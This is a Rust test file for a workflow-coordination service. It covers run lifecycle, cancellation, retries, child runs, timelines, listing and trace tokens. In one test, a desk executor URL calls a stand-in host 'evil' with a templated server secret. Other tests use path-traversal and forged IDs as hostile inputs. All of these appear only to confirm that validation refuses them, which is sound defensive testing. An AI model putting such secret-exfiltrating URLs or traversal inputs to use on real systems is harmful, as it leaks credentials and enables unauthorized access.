//! R1, R15, C5 to C7, W2, W12, W15: a run's life.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use super::support::{World, desk_try, document, engine_run, run_id, workflow};
use crate::run::{FinishedHook, HandoffOutcomes, HookOutcome, RunState};
use crate::service::child::{NewChild, child_run_id};
use crate::service::events::{RequestedWorkflow, RunCancelled, RunRequested};
use crate::service::run::timeline::DeskTry;
use crate::service::run::{
    Begun, CancelRun, DeleteRun, GetRun, GetRunStatus, GetRunTimeline, ListRuns, RetryRun, RunEnd, RunTicket,
};
use crate::{Code, Refusal};
use perdura::Event;

fn completed(output: Value) -> RunEnd {
    RunEnd::Completed { outputs: [("b".to_owned(), output.clone())].into(), output }
}
fn failed(error: &str) -> RunEnd {
    RunEnd::Failed { error: error.to_owned() }
}
async fn cancel(world: &World, run: &str) -> Result<RunState, Refusal> {
    let input = CancelRun { run_id: run.to_owned(), reason: Some(" too late ".into()) };
    world.service.cancel_run(input).await.map(|answer| answer.run.status)
}
async fn ready() -> World {
    let world = World::new();
    world.save(&document("wf")).await;
    world
}

#[tokio::test]
async fn r1_a_run_goes_from_queued_over_running_to_its_end_for_good() {
    let world = ready().await;
    let (ticket, begun) = world.running("wf", "run-1").await;
    assert_eq!((begun.depth, begun.base_url.as_str(), &begun.input), (0, "http://e.test:8288", &json!({ "n": 1 })));
    let run = world.run("run-1").await;
    assert_eq!((run.status, run.finished_at, run.workflow_version), (RunState::Running, None, 1));
    world.commit(world.service.end_run(&ticket, completed(json!({ "x": 1 })), None).await).await;
    let ended = world.run("run-1").await;
    assert_eq!((ended.status, ended.output.clone()), (RunState::Completed, Some(json!({ "x": 1 }))));
    assert_eq!(ended.outputs, Some(BTreeMap::from([("b".to_owned(), json!({ "x": 1 }))])));
    assert!(ended.finished_at.is_some());
    // Nothing leaves a final state.
    let again = world.commit(world.service.end_run(&ticket, failed("late"), None).await).await;
    assert_eq!(again, ended);
    world.commit(world.service.fail_lost_run("run-1", "lost").await).await;
    assert_eq!(cancel(&world, "run-1").await.unwrap_err().code, Code::RunNotActive);
    let late = world.service.desk_started(&ticket, &desk_try("a"), None).await.unwrap_err();
    assert_eq!((late.name(), late.is_retriable()), ("RUN_NOT_ACTIVE", false));
    assert_eq!(world.run("run-1").await, ended);
    assert_eq!(world.timeline("run-1").await, ["run.started queued", "run.started running", "run.completed completed"]);
}

#[tokio::test]
async fn r1_one_engine_run_carries_out_a_run() {
    let world = ready().await;
    let (ticket, _) = world.running("wf", "run-1").await;
    let (request, event) = world.requested("run-1");
    // The same step again, after a crash before its result was kept.
    let again = world.commit(world.service.begin_run(&request, &event, ticket.engine_run).await).await;
    assert!(matches!(again, Begun::Go(_)));
    let other = world.commit(world.service.begin_run(&request, &event, engine_run(2)).await).await;
    assert_eq!(other, Begun::Over { status: RunState::Running });
    let stranger = RunTicket { engine_run: engine_run(2), ..ticket };
    let error = world.service.end_run(&stranger, failed("no"), None).await.unwrap_err();
    assert_eq!(error.name(), "RUN_NOT_ACTIVE");
    assert_eq!(world.timeline("run-1").await, ["run.started queued", "run.started running"]);
}

#[tokio::test]
async fn r1_an_event_that_somebody_else_sent_begins_no_queued_run() {
    let world = ready().await;
    world.queue("wf", Some("run-1")).await.unwrap();
    let (request, _) = world.requested("run-1");
    let begun = world.commit(world.service.begin_run(&request, "01FORGED", engine_run(2)).await).await;
    assert_eq!(begun, Begun::Over { status: RunState::Queued });
    world.begin("run-1").await;
}

#[tokio::test]
async fn r15_desks_are_told_once_for_each_try_and_in_order() {
    let world = ready().await;
    let (ticket, _) = world.running("wf", "run-1").await;
    for _ in 0..2 {
        let (first, second) = (desk_try("a"), DeskTry { attempt: 2, ..desk_try("a") });
        world.commit(world.service.desk_started(&ticket, &first, Some(&json!({ "in": 1 }))).await).await;
        world.commit(world.service.desk_failed(&ticket, &first, "no", HandoffOutcomes::new()).await).await;
        world.commit(world.service.desk_started(&ticket, &second, None).await).await;
        world
            .commit(world.service.desk_completed(&ticket, &second, &json!({ "out": 2 }), HandoffOutcomes::new()).await)
            .await;
    }
    let expected = [
        "run.started queued",
        "run.started running",
        "desk.started running a",
        "desk.failed failed a",
        "desk.started running a",
        "desk.completed completed a",
    ];
    assert_eq!(world.timeline("run-1").await, expected);
    let timeline = world.service.run_timeline(GetRunTimeline { run_id: "run-1".into() }).await.unwrap().timeline;
    assert_eq!((&timeline[2].input, &timeline[5].output), (&Some(json!({ "in": 1 })), &Some(json!({ "out": 2 }))));
    assert_eq!(timeline[3].detail.as_deref(), Some("no"));
    assert!(timeline.iter().all(|event| event.event_id.starts_with("evt-")));
    assert!(timeline.is_sorted_by_key(|event| event.ts));
}

#[tokio::test]
async fn w12_w1_forty_appends_at_once_are_all_kept() {
    let world = ready().await;
    let (ticket, _) = world.running("wf", "run-1").await;
    let mut tasks = Vec::new();
    for number in 0..40 {
        let (service, records, ticket) = (world.service.clone(), world.records(), ticket.clone());
        tasks.push(tokio::spawn(async move {
            let desk = desk_try(&format!("desk-{number}"));
            let commit = service.desk_started(&ticket, &desk, None).await.unwrap();
            records.transact(commit.changes).await.unwrap().unwrap();
        }));
    }
    for task in tasks {
        task.await.unwrap();
    }
    let mut told = world.timeline("run-1").await.split_off(2);
    told.sort_unstable();
    let mut expected: Vec<_> = (0..40).map(|number| format!("desk.started running desk-{number}")).collect();
    expected.sort_unstable();
    assert_eq!(told, expected);
}

#[tokio::test]
async fn c6_c7_runs_and_timelines_are_found_or_their_ids_are_wrong() {
    let world = ready().await;
    for (id, code, status) in [("a/b", Code::InvalidRunId, 400), ("run-9", Code::RunNotFound, 404)] {
        let refusal = world.service.run_status(GetRunStatus { run_id: id.into() }).await.unwrap_err();
        assert_eq!((refusal.code, refusal.status()), (code, status));
        let refusal = world.service.run_timeline(GetRunTimeline { run_id: id.into() }).await.unwrap_err();
        assert_eq!((refusal.code, refusal.status()), (code, status));
    }
}

#[tokio::test]
async fn m11_a_runs_end_keeps_the_promise_and_what_came_of_the_hook() {
    let world = ready().await;
    world.queue("wf", Some("run-1")).await.unwrap();
    let queued = json!(world.run("run-1").await.finalization);
    let contract = json!({
        "delivery": "at-least-once", "exactlyOnce": false, "sideEffectPolicy": "idempotent-non-critical",
        "failureMode": "best-effort-non-blocking",
    });
    assert_eq!(queued, json!({ "contract": contract }));
    let (ticket, _) = world.begin("run-1").await;
    let hook = FinishedHook {
        attempted_at: world.run("run-1").await.started_at,
        outcome: HookOutcome::Failed,
        non_critical: true,
        idempotency_required: true,
        timeout_ms: 5_000,
        error: Some("boom".into()),
    };
    let ended = world.commit(world.service.end_run(&ticket, completed(json!(1)), Some(hook)).await).await;
    let finalization = json!(ended.finalization);
    assert_eq!(finalization["contract"], contract);
    assert_eq!(
        (&finalization["finishedHook"]["outcome"], &finalization["finishedHook"]["error"]),
        (&json!("failed"), &json!("boom"))
    );
    let (ticket, _) = world.running("wf", "run-2").await;
    let ended = world.commit(world.service.end_run(&ticket, failed("no"), None).await).await;
    assert_eq!(json!(ended.finalization)["finishedHook"]["outcome"], "skipped");
    assert_eq!((ended.status, ended.error.as_deref()), (RunState::Failed, Some("no")));
}

#[tokio::test]
async fn r16_the_link_to_the_engine_leads_from_the_event_to_the_run() {
    let world = ready().await;
    let queued = world.queue("wf", Some("run-1")).await.unwrap();
    let engine_link = |run: &crate::run::RunStatus| json!(run.trace_links[1]);
    let before = engine_link(&queued.run);
    let event = &queued.event_ids[0];
    assert_eq!((&before["provider"], &before["label"]), (&json!("inngest"), &json!(format!("Engine event {event}"))));
    assert_eq!(before["url"], format!("http://e.test:8288/events/{event}"));
    let (ticket, _) = world.begin("run-1").await;
    let run = world.run("run-1").await;
    assert_eq!(engine_link(&run)["label"], format!("Engine run {}", ticket.engine_run));
    let timeline = run.trace_links[0].url.clone();
    assert!(timeline.starts_with("https://p.test/api/orpc/coordination/runs/run-1/timeline?token="), "{timeline}");
    let token = timeline.split_once("token=").unwrap().1;
    assert_eq!(world.service.run_of_trace_token(token).await.unwrap(), run_id("run-1"));
    assert_eq!(
        world.service.run_of_trace_token(&token.replace("run-1", "run-2")).await.unwrap_err().code,
        Code::InvalidToken
    );
    world.advance(9 * 86_400_000).await;
    assert_eq!(world.service.run_of_trace_token(token).await.unwrap_err().code, Code::InvalidToken);
}

#[tokio::test]
async fn d4_links_outlive_a_restart() {
    let store = perdura_store::MemStore::new();
    let world = World::over(store.clone());
    world.save(&document("wf")).await;
    let url = world.queue("wf", Some("run-1")).await.unwrap().run.trace_links[0].url.clone();
    world.engine.stop().await.unwrap();
    let world = World::over(store);
    let token = url.split_once("token=").unwrap().1;
    assert_eq!(world.service.run_of_trace_token(token).await.unwrap(), run_id("run-1"));
}

#[tokio::test]
async fn w15_a_cancelled_run_fails_and_the_engine_is_told_in_the_same_commit() {
    let world = ready().await;
    world.queue("wf", Some("run-1")).await.unwrap();
    assert_eq!(cancel(&world, "run-1").await.unwrap(), RunState::Failed);
    let run = world.run("run-1").await;
    assert_eq!(run.error.as_deref(), Some("cancelled: too late"));
    assert_eq!(world.timeline("run-1").await, ["run.started queued", "run.failed failed"]);
    let events = world.events(RunCancelled::NAME);
    assert_eq!(events[0].1, json!({ "runId": "run-1", "workflowId": "wf", "reason": "too late" }));
    // The runner comes too late.
    let (request, event) = world.requested("run-1");
    let begun = world.commit(world.service.begin_run(&request, &event, engine_run(1)).await).await;
    assert_eq!(begun, Begun::Over { status: RunState::Failed });
    let details = world.service.run_details(GetRun { run_id: "run-1".into() }).await.unwrap();
    assert!(details.cancelled);
    assert_eq!(cancel(&world, "run-9").await.unwrap_err().code, Code::RunNotFound);
}

#[tokio::test]
async fn w15_runs_within_a_run_are_cancelled_with_it() {
    let world = ready().await;
    let (ticket, _) = world.running("wf", "run-1").await;
    let child = child_run_id(&ticket.run_id, &desk_try("a"));
    let new = NewChild { run_id: child.clone(), workflow_id: "wf".into(), publication: None, input: json!({ "c": 1 }) };
    let request = world.commit(world.service.open_child_run(&ticket, new.clone()).await).await;
    assert_eq!((request.run_id.as_str(), &request.input), ("run-1.a.1", &Some(json!({ "c": 1 }))));
    let again = world.commit(world.service.open_child_run(&ticket, new).await).await;
    assert_eq!(again, request);
    let begun = world.commit(world.service.begin_run(&request, "invoked", engine_run(2)).await).await;
    let Begun::Go(begun) = begun else { panic!("{begun:?}") };
    assert_eq!(begun.depth, 1);
    cancel(&world, "run-1").await.unwrap();
    let run = world.run("run-1.a.1").await;
    assert_eq!(run.error.as_deref(), Some("cancelled: run run-1, which it is a part of, was cancelled"));
    assert_eq!(world.events(RunCancelled::NAME).len(), 2);
    let details = world.service.run_details(GetRun { run_id: "run-1.a.1".into() }).await.unwrap();
    assert_eq!(details.parent_run_id.as_deref(), Some("run-1"));
}

#[tokio::test]
async fn k_workflows_that_start_themselves_end_at_a_depth() {
    let world = ready().await;
    let (mut ticket, _) = world.running("wf", "run-1").await;
    for depth in 1..=crate::bounds::SUB_WORKFLOW_DEPTH_MAX + 1 {
        let child = child_run_id(&ticket.run_id, &desk_try("a"));
        let new = NewChild { run_id: child.clone(), workflow_id: "wf".into(), publication: None, input: json!(1) };
        let opened = world.service.open_child_run(&ticket, new).await;
        if depth > crate::bounds::SUB_WORKFLOW_DEPTH_MAX {
            assert_eq!(opened.unwrap_err().name(), "RUN_DEPTH_EXCEEDED");
            return;
        }
        let request = world.commit(opened).await;
        let engine_run = engine_run(10 + u128::from(depth));
        world.commit(world.service.begin_run(&request, "invoked", engine_run).await).await;
        ticket = RunTicket { run_id: child, engine_run };
    }
}

#[test]
fn child_run_ids_are_ids_however_long_their_parts_are() {
    let long = run_id(&"r".repeat(128));
    let id = child_run_id(&long, &desk_try("a"));
    assert_eq!((id.as_str().len(), child_run_id(&long, &desk_try("a")) == id), (44, true));
    assert_ne!(child_run_id(&long, &desk_try("b")), id);
    assert_eq!(child_run_id(&run_id("r"), &desk_try("a")).as_str(), "r.a.1");
}

#[tokio::test]
async fn w15_a_run_is_done_again_as_it_was() {
    let world = ready().await;
    let retry = async |run: &str, new: Option<&str>| {
        let input = RetryRun { run_id: run.to_owned(), new_run_id: new.map(str::to_owned) };
        world.service.retry_run(input).await
    };
    world.running("wf", "run-1").await;
    assert_eq!(retry("run-1", None).await.unwrap_err().code, Code::RunActive);
    cancel(&world, "run-1").await.unwrap();
    let mut changed = document("wf");
    changed["name"] = json!("Changed");
    world.save(&changed).await;
    let again = retry("run-1", Some("run-2")).await.unwrap();
    assert_eq!((again.event_ids.len(), again.run.input), (1, Some(json!({ "n": 1 }))));
    assert_eq!(retry("run-1", Some("run-2")).await.unwrap().event_ids.len(), 0, "asked twice it is one run");
    let (_, begun) = world.begin("run-2").await;
    assert_eq!((begun.publication, begun.workflow.name.as_str()), (1, "Workflow wf"));
    let details = world.service.run_details(GetRun { run_id: "run-2".into() }).await.unwrap();
    assert_eq!((details.retry_of.as_deref(), details.publication), (Some("run-1"), Some(1)));
    assert!(retry("run-1", None).await.unwrap().run.run_id.starts_with("run-1"));
    assert_eq!(retry("run-9", None).await.unwrap_err().code, Code::RunNotFound);
}

#[tokio::test]
async fn w15_a_deleted_run_leaves_nothing() {
    let world = ready().await;
    let empty: Vec<_> = COLLECTIONS.iter().map(|collection| world.count(collection)).collect();
    let delete = async |run: &str| {
        let deleted = world.service.delete_run(DeleteRun { run_id: run.to_owned() }).await;
        deleted.map(|deleted| deleted.run_id).map_err(|refusal| refusal.code)
    };
    let (ticket, _) = world.running("wf", "run-1").await;
    assert_eq!(delete("run-1").await, Err(Code::RunActive));
    world.commit(world.service.desk_started(&ticket, &desk_try("a"), None).await).await;
    world.commit(world.service.end_run(&ticket, completed(json!(1)), None).await).await;
    assert_eq!(delete("run-1").await, Ok("run-1".to_owned()));
    assert_eq!(delete("run-1").await, Err(Code::RunNotFound));
    assert_eq!(COLLECTIONS.iter().map(|collection| world.count(collection)).collect::<Vec<_>>(), empty);
    // The id is free, and whoever carried the old run out has no say in the new one.
    assert_eq!(world.queue("wf", Some("run-1")).await.unwrap().event_ids.len(), 1);
    let error = world.service.desk_started(&ticket, &desk_try("b"), None).await.unwrap_err();
    assert_eq!(error.name(), "RUN_NOT_ACTIVE");
}

const COLLECTIONS: [&str; 7] = [
    "coordination.run",
    "coordination.input",
    "coordination.output",
    "coordination.outputs",
    "coordination.by_time",
    "coordination.by_workflow",
    "coordination.timeline",
];

#[tokio::test]
async fn w15_runs_are_listed_newest_first_with_filters_and_pages() {
    let world = ready().await;
    world.save(&document("other")).await;
    for number in 0..5 {
        world.queue(if number == 2 { "other" } else { "wf" }, Some(&format!("run-{number}"))).await.unwrap();
        world.advance(1_000).await;
    }
    cancel(&world, "run-1").await.unwrap();
    let list = async |filter: Value| {
        let page = world.service.runs(serde_json::from_value(filter).unwrap()).await.unwrap();
        (page.runs.iter().map(|run| run.run_id.clone()).collect::<Vec<_>>(), page.next_cursor)
    };
    assert_eq!(list(json!({})).await.0, ["run-4", "run-3", "run-2", "run-1", "run-0"]);
    assert_eq!(list(json!({ "workflowId": "wf" })).await.0, ["run-4", "run-3", "run-1", "run-0"]);
    assert_eq!(list(json!({ "status": ["failed", "completed"] })).await.0, ["run-1"]);
    let (first, cursor) = list(json!({ "workflowId": "wf", "limit": 2 })).await;
    assert_eq!(first, ["run-4", "run-3"]);
    // A run that is queued between two pages moves neither.
    world.queue("wf", Some("run-5")).await.unwrap();
    let (second, cursor) = list(json!({ "workflowId": "wf", "limit": 2, "cursor": cursor })).await;
    assert_eq!(second, ["run-1", "run-0"]);
    assert_eq!(list(json!({ "workflowId": "wf", "limit": 2, "cursor": cursor })).await, (vec![], None));
    let (third, second) = (world.run("run-3").await.started_at, world.run("run-1").await.started_at);
    assert_eq!(list(json!({ "startedAfter": second, "startedBefore": third })).await.0, ["run-2", "run-1"]);
    let wrong = ListRuns { cursor: Some("\n".into()), ..ListRuns::default() };
    assert_eq!(world.service.runs(wrong).await.unwrap_err().code, Code::InvalidCursor);
    let wrong = ListRuns { workflow_id: Some("..".into()), ..ListRuns::default() };
    assert_eq!(world.service.runs(wrong).await.unwrap_err().code, Code::InvalidWorkflowId);
}

#[tokio::test]
async fn a_lost_run_fails_and_a_cancelled_engine_run_too() {
    let world = ready().await;
    world.running("wf", "run-1").await;
    world.commit(world.service.run_was_cancelled(engine_run(2), "run-1").await).await;
    assert_eq!(world.run("run-1").await.status, RunState::Running, "another engine run's end is not its end");
    world.commit(world.service.run_was_cancelled(engine_run(1), "run-1").await).await;
    assert_eq!(world.run("run-1").await.status, RunState::Failed);
    world.queue("wf", Some("run-2")).await.unwrap();
    world.commit(world.service.fail_lost_run("run-2", "gave up").await).await;
    assert_eq!(world.run("run-2").await.error.as_deref(), Some("gave up"));
    for unknown in ["run-9", "../x"] {
        world.commit(world.service.fail_lost_run(unknown, "gave up").await).await;
    }
}

#[tokio::test]
async fn r11_an_event_with_the_whole_document_is_pinned_by_its_hash() {
    let world = ready().await;
    let begin = async |run: &str, sent: &Value, number| {
        let document = RequestedWorkflow::Document(Box::new(workflow(sent)));
        let request =
            RunRequested { run_id: run.into(), workflow: document, input: None, base_url: Some("http://old/".into()) };
        world.service.begin_run(&request, "any", engine_run(number)).await
    };
    let known = world.commit(begin("old-1", &document("wf"), 1).await).await;
    let Begun::Go(known) = known else { panic!("{known:?}") };
    assert_eq!((known.publication, &known.input, known.base_url.as_str()), (1, &json!({}), "http://old"));
    assert_eq!(world.timeline("old-1").await, ["run.started queued", "run.started running"]);
    let mut changed = document("wf");
    changed["name"] = json!("From an event");
    let new = world.commit(begin("old-2", &changed, 2).await).await;
    let Begun::Go(new) = new else { panic!("{new:?}") };
    assert_eq!((new.publication, new.workflow.name.as_str()), (2, "From an event"));
    // The newest publication is still the one that was saved.
    assert_eq!(world.queue("wf", Some("run-3")).await.unwrap().event_ids.len(), 1);
    assert_eq!(world.begin("run-3").await.1.publication, 1);
    // Events bring neither what cannot run nor what calls out with this server's secrets.
    changed["entryDeskId"] = json!("nowhere");
    assert_eq!(begin("old-4", &changed, 4).await.unwrap_err().name(), "WORKFLOW_VALIDATION_FAILED");
    let mut calling = document("wf");
    calling["desks"][0]["executor"] = json!({ "type": "http", "url": "http://evil/{{ secret.KEY }}" });
    let error = begin("old-5", &calling, 5).await.unwrap_err();
    assert!(error.text().contains("may not bring desk 'a'") && !error.is_retriable(), "{error:?}");
    assert_eq!(begin("../x", &document("wf"), 6).await.unwrap_err().name(), "INVALID_RUN_ID");
}
